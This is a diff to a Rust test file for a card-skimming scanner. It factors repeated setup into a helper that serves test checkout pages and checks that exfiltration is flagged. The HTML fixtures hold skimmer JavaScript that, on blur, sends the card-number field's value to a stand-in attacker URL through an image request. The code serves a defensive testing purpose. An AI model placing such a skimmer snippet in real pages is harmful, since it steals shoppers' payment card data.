@@ -33,15 +33,27 @@ fn scan_env(ws: &Workspace, env: &[(&str, &str)]) -> (i32, ScanReport, String) {
     (out.status.code().expect("exit code"), report, stdout)
 }
 
+/// Serves `body(thief)` at `/p` (`thief`: an attacker URL), scans it with the shopper, and
+/// checks the scan succeeded and caught the card leaving; returns the report.
+fn scan_card_page(body: impl FnOnce(&str) -> String) -> ScanReport {
+    let shop = Shop::start_in_background().expect("start the test shop");
+    let thief = shop.url(Origin::Attacker, "/c");
+    shop.set_resource(Origin::Shop, "/p", Resource::html(body(&thief)));
+    let url = shop.url(Origin::Shop, "/p");
+    let ws = Workspace::with_page_config(shop, "p", &url, "settle = \"300ms\"");
+    let (code, report, _) = scan_env(&ws, &[]);
+    let p = page(&report, "p");
+    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
+    assert_eq!(code, 1, "{}", describe(&report));
+    assert!(!findings_of(&report, FindingKind::CardExfiltration).is_empty(), "{}", describe(&report));
+    report
+}
+
 #[test]
 fn card_field_with_a_long_non_ascii_id_does_not_crash_the_scan_and_its_reader_is_reported() {
-    let shop = Shop::start_in_background().expect("start the test shop");
     let id = "é".repeat(2000) + &"😀".repeat(500);
-    let thief = shop.url(Origin::Attacker, "/c");
-    shop.set_resource(
-        Origin::Shop,
-        "/p",
-        Resource::html(format!(
+    let report = scan_card_page(|thief| {
+        format!(
             r#"<html><body><form>
 <input id="{id}" name="cardnumber" autocomplete="cc-number" size="20">
 <input id="exp" name="exp" autocomplete="cc-exp"><input id="cvc" name="cvc" autocomplete="cc-csc">
@@ -50,16 +62,10 @@ const f = document.getElementById("{id}");
 f.addEventListener("input", () => {{}});
 f.addEventListener("blur", () => {{ new Image().src = "{thief}?d=" + encodeURIComponent(f.value); }});
 </script></body></html>"#
-        )),
-    );
-    let url = shop.url(Origin::Shop, "/p");
-    let ws = Workspace::with_page_config(shop, "p", &url, "settle = \"300ms\"");
-    let (code, report, _) = scan_env(&ws, &[]);
-    let p = page(&report, "p");
-    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
-    assert_eq!(code, 1, "{}", describe(&report));
+        )
+    });
     // The reader of the card field is named, with the page's id cut on a character boundary.
-    assert!(!findings_of(&report, FindingKind::CardExfiltration).is_empty(), "{}", describe(&report));
+    let p = page(&report, "p");
     let access =
         p.field_access.iter().find(|a| a.access.field.contains('é')).expect("the card field's access is recorded");
     assert!(access.access.field.len() <= 300, "{}", access.access.field.len());
@@ -70,12 +76,8 @@ fn card_field_named_with_lone_surrogates_is_still_typed_into_and_its_thief_caugh
     // Strings a script builds may hold lone UTF-16 surrogates, which no JSON parser in the
     // monitor accepts: the field's id, name and label carry them (set by script, as HTML text
     // cannot), so any listing of the fields that returned them raw would be lost.
-    let shop = Shop::start_in_background().expect("start the test shop");
-    let thief = shop.url(Origin::Attacker, "/c");
-    shop.set_resource(
-        Origin::Shop,
-        "/p",
-        Resource::html(format!(
+    let report = scan_card_page(|thief| {
+        format!(
             r#"<html><body><form>
 <label for="cc">Card number</label><input id="cc" autocomplete="cc-number" size="20">
 <input id="exp" name="exp" autocomplete="cc-exp"><input id="cvc" name="cvc" autocomplete="cc-csc">
@@ -90,17 +92,10 @@ document.getElementById("pay").textContent = "Pay " + "y".repeat(195) + "\ud83d\
 f.id = "cc" + lone;
 f.addEventListener("blur", () => {{ new Image().src = "{thief}?d=" + encodeURIComponent(f.value); }});
 </script></body></html>"#
-        )),
-    );
-    let url = shop.url(Origin::Shop, "/p");
-    let ws = Workspace::with_page_config(shop, "p", &url, "settle = \"300ms\"");
-    let (code, report, _) = scan_env(&ws, &[]);
-    let p = page(&report, "p");
-    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
-    assert_eq!(code, 1, "{}", describe(&report));
-    let typed = &p.interaction.as_ref().expect("the shopper ran").fields_typed;
+        )
+    });
+    let typed = &page(&report, "p").interaction.as_ref().expect("the shopper ran").fields_typed;
     assert!(!typed.is_empty(), "the card field was typed into: {}", describe(&report));
-    assert!(!findings_of(&report, FindingKind::CardExfiltration).is_empty(), "{}", describe(&report));
 }
 
 fn three_pages_one_panicking() -> Workspace {
